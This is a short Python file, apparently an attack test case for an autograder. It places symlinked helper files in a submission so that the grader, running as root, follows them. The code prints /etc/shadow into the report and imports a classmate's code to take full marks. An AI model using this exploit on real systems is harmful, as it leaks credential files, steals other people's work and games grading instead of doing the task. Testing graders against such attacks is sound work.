"""Attack: a folder submission (this file as bp.py) whose helper files are symlinks, which `grade` follows as root while collecting the batch: loot.py -> ../<classmate>.py gives this submission the classmate's code (20/20, their marker in our stdout) and shadow.py -> /etc/shadow puts a grader-side file into our report. Expected: wins on any branch whose collector reads files through symlinks (grader/submissions.py: Path.is_file()/read_bytes() follow links). needs: the sidecar .json (the harness must lay out the folder and links)."""

import pathlib

HERE = pathlib.Path(__file__).parent
for name in ("loot.py", "shadow.py"):
    path = HERE / name
    if path.exists():  # the helpers were copied into our scratch by the grader itself
        print(name, "->", path.read_text()[:2000].replace("\n", " | "))

try:
    from loot import *  # noqa: F403 - the classmate's functions become ours
except ImportError:

    def _nothing(*args: object) -> object:
        raise NotImplementedError("no loot.py: the grader did not follow the symlink")

    sigmoid = forward = loss = backward = train_step = _nothing
